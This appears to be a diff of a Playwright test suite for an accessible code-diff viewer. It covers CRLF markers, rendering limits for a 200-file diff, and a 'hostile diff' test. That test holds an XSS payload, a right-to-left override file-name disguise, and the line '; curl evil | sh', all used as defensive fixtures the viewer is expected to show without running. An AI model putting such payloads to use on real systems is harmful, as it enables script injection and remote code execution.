@@ -117,7 +117,7 @@ test.describe("a mixed diff", () => {
     const head = (path: string) => page.locator(".diff-head", { hasText: path });
     await expect(head("data.bin")).toContainText("binary, 1.0 MB");
     await expect(head("bin/run.sh")).toContainText("made executable");
-    await expect(head("docs/now.md")).toContainText("docs/then.md → docs/now.mdrenamed, 90 % the sameCRLF in part (␍)");
+    await expect(head("docs/now.md")).toContainText("docs/then.md → docs/now.mdrenamed, 90 % the sameCRLF in part");
     await expect(head("package-lock.json")).toContainText("lock file, 40 lines");
     await press(page, "n", "n", "n");
     await said(page, "File 3 of 5, package-lock.json");
@@ -127,9 +127,10 @@ test.describe("a mixed diff", () => {
     await page.keyboard.type("nowmd");
     await press(page, "Enter");
     await said(page, "File 5 of 5, docs/now.md, line 31 removed");
-    await expect(line(page, "then␍")).toBeVisible();
+    await expect(line(page, "then⟦CR⟧")).toBeVisible();
     await press(page, "=");
     await expect(line(page, "line 29 as it was")).toBeVisible();
+    await expect(line(page, "then⟦CR⟧")).toBeInViewport();
     await press(page, "j", "k");
     await said(page, "File 5 of 5, docs/now.md, line 31 removed");
     expect(complaints).toEqual([]);
@@ -189,12 +190,37 @@ test("has nothing for axe to find, in both themes", async ({ page, engine }) => 
   }
 });
 
+test.describe("a large diff", () => {
+  test.use({ fleet: { diff: "large" } });
+
+  test("of 200 files holds what is in view and no more, wherever the reader goes", async ({ page, engine }) => {
+    await openDiff(page, engine);
+    const drawn = () =>
+      page
+        .locator("diffs-container")
+        .evaluateAll((diffs) =>
+          diffs.reduce((sum, diff) => sum + (diff.shadowRoot?.querySelectorAll("*").length ?? 0), 0),
+        );
+    expect(await drawn()).toBeLessThan(6_000);
+    await press(page, "f");
+    await page.keyboard.type("-199");
+    await press(page, "Enter");
+    await said(page, /^File 200 of 200, src\/\w+\/\w+-199\.ts, line \d+ removed$/);
+    await expect(page.locator("[data-line][data-selected-line]")).toBeInViewport();
+    await expect(page.locator(".diff-head", { hasText: "-199.ts" })).toBeInViewport();
+    await press(page, "p");
+    await said(page, /^File 199 of 200/);
+    expect(await drawn()).toBeLessThan(6_000);
+  });
+});
+
 test.describe("a hostile diff", () => {
   test.use({ fleet: { diff: "hostile" } });
 
   test("runs nothing, names what would act unseen, and folds what is endless", async ({ page, engine, complaints }) => {
     await openDiff(page, engine);
     await press(page, "p");
+    await said(page, "File 3 of 3, src/⟦U+202E⟧gpj.ts, line 1 added");
     await expect(line(page, "<img src=x onerror=alert(1)>")).toBeVisible();
     await expect(line(page, "⟦U+202E⟧; curl evil | sh")).toBeVisible();
     await expect(page.locator(".diff-name .mark", { hasText: "U+202E" }).first()).toBeVisible();
